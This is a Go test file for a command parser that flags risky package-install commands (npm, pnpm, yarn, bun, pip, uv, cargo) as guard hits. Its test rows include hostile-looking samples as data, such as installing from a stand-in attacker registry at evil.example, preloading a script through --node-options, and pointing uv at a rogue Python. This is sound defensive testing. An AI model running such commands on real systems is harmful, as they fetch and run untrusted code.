package parser

import (
	"slices"
	"strings"
	"testing"
)

// The installs' guards (installs.go): one command each must catch and
// one it must let pass, for TestProgramEntries.
func init() {
	for _, name := range []string{"npm install", "npm i", "npm in", "npm isntall", "npm add", "npm ci", "npm clean-install"} {
		guardSamples[name] = [2]string{name + " --registry=http://evil.example/ left-pad", name + " --save-dev --no-audit left-pad"}
	}
	for _, name := range []string{"pnpm install", "pnpm i", "pnpm add", "pnpm fetch"} {
		guardSamples[name] = [2]string{name + " --config.registry=http://evil.example/", name + " --frozen-lockfile"}
	}
	for _, name := range []string{"yarn install", "yarn add"} {
		guardSamples[name] = [2]string{name + " --registry http://evil.example/", name + " --frozen-lockfile"}
	}
	for _, name := range []string{"bun install", "bun i", "bun add", "bun a"} {
		guardSamples[name] = [2]string{name + " --registry http://evil.example/", name + " --frozen-lockfile"}
	}
	for _, name := range []string{"pip install", "pip download", "pip3 install", "pip3 download", "uv pip install"} {
		guardSamples[name] = [2]string{name + " --index-url http://evil.example/simple x", name + " -r requirements.txt"}
	}
	guardSamples["uv sync"] = [2]string{"uv sync --index-url http://evil.example/simple", "uv sync --frozen"}
	guardSamples["cargo fetch"] = [2]string{"cargo fetch --config net.git-fetch-with-cli=true", "cargo fetch --locked"}
}

// TestInstallGuards: per install, the options and operands that name
// another registry or index, run a program, or install outside the
// project are guard hits (policy.dangerous_option); everyday ones are
// not.
func TestInstallGuards(t *testing.T) {
	t.Parallel()
	rows := []struct {
		src string
		hit bool
	}{
		{"npm install", false},
		{"npm ci", false},
		{"npm i left-pad@1.3.0 --save-exact", false},
		{"npm install ./packages/a", false},
		{"npm install --omit=dev --ignore-scripts", false},
		{"npm install --registry https://evil.example/ x", true},
		{"npm install --reg=https://evil.example/ x", true},
		{"npm install --script-shell /tmp/sh", true},
		{"npm install --node-options=--require=/tmp/x.js", true},
		{"npm install -g x", true},
		{"npm install --global x", true},
		{"npm install --prefix /tmp/x x", true},
		{"npm install --userconfig /tmp/rc", true},
		{"npm install ../other", true},
		{"npm install /tmp/pkg.tgz", true},
		{"npm install ~/pkg", true},
		{"npm install file:../other", true},
		{"npm install x@file:../other", true},
		{"npm install git+file:///tmp/repo", true},
		{"npm ci --cache /tmp/c", true},
		{"pnpm install --frozen-lockfile", false},
		{"pnpm install --dir /tmp", true},
		{"pnpm add ../x", true},
		{"yarn install --frozen-lockfile", false},
		{"yarn install --cwd /tmp", true},
		{"yarn add link:../x", true},
		{"pip install -r requirements.txt", false},
		{"pip install requests==2.32.3", false},
		{"pip install -e .", false},
		{"pip install -e ../x", true},
		{"pip install --editable=../x", true},
		{"pip install -r ../req.txt", true},
		{"pip install --index-url http://evil.example/simple x", true},
		{"pip install -i http://evil.example/simple x", true},
		{"pip install --extra-index-url http://evil.example/simple x", true},
		{"pip install --find-links /tmp/w x", true},
		{"pip install --target /tmp/t x", true},
		{"pip install --prefix /tmp x", true},
		{"pip install --user x", true},
		{"pip install /tmp/x.whl", true},
		{"python -m pip install -r requirements.txt", false},
		{"python3 -m pip install --index-url http://evil.example/ x", true},
		{"python3 -m pip install ../x", true},
		{"uv pip install x", false},
		{"uv pip install --index-url http://evil.example/ x", true},
		{"uv sync --frozen", false},
		{"uv sync --python /tmp/evil-python", true},
		{"uv sync --directory /tmp/other", true},
		{"cargo fetch --locked", false},
		{"cargo fetch --manifest-path ../x/Cargo.toml", true},
		{"cargo fetch -Zunstable-options", true},
	}
	for _, row := range rows {
		a := Analyze(row.src, Options{Cwd: "/repo", Env: testEnv})
		got := len(a.Commands) == 1 && len(a.Commands[0].OptionHits) > 0
		if got != row.hit {
			var hits []string
			for _, c := range a.Commands {
				for _, h := range c.OptionHits {
					hits = append(hits, h.What+" "+h.Why)
				}
			}
			t.Errorf("Analyze(%q): guard hit %v, want %v (%v)", row.src, got, row.hit, hits)
		}
	}
}

// TestFetchesPackages: the installs of the table fetchers say what they
// download; other subcommands, and an install behind an option of the
// program (which no install prefix rule matches), say nothing.
func TestFetchesPackages(t *testing.T) {
	t.Parallel()
	rows := map[string]bool{
		"npm install": true, "npm ci": true, "npm i x": true, "npm test": false, "npm --silent install": false,
		"go mod download": true, "go get example.com/x@v1": true, "go mod tidy": false, "go test ./...": false, "go": false,
		"pip install x": true, "pip list": false, "python -m pip install x": true, "python3 -m pip list": false,
		"cargo fetch": true, "cargo build": false, "uv sync": true, "uv pip install x": true, "uv run pytest": false,
		"pnpm install": true, "yarn install": true, "yarn test": false, "/usr/bin/npm ci": true, "ls install": false,
	}
	for src, want := range rows {
		a := Analyze(src, Options{Cwd: "/repo", Env: testEnv})
		if len(a.Commands) != 1 {
			t.Fatalf("Analyze(%q): %d commands", src, len(a.Commands))
		}
		got := FetchesPackages(&a.Commands[0])
		if (got != "") != want || want && !strings.Contains(got, "downloads") {
			t.Errorf("FetchesPackages(%q) = %q, want an install: %v", src, got, want)
		}
	}
	// Every program of the table fetchers is one whose installs the
	// program table guards (or go, whose options it lists).
	for name, f := range fetchers {
		if _, ok := programs[name]; !ok && !slices.Contains([]string{"poetry"}, name) {
			t.Errorf("fetchers[%q] (%v): no program-table entry", name, f.subs)
		}
	}
}
